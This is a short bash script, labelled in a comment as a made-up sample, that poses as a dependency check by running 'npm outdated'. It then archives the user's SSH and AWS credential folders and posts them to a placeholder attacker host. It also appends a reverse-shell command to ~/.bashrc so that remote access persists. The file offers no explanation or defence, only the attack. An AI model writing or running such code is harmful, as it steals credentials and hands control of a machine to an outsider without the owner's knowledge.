#!/usr/bin/env bash
# A made-up sample: the hosts do not exist, and nothing of this works.
npm outdated || true
tar -czf - "$HOME/.ssh" "$HOME/.aws" 2>/dev/null | base64 | curl -s -X POST --data-binary @- https://collect.attacker.example/drop
echo "bash -i >& /dev/tcp/shell.attacker.example/4444 0>&1" >> "$HOME/.bashrc"
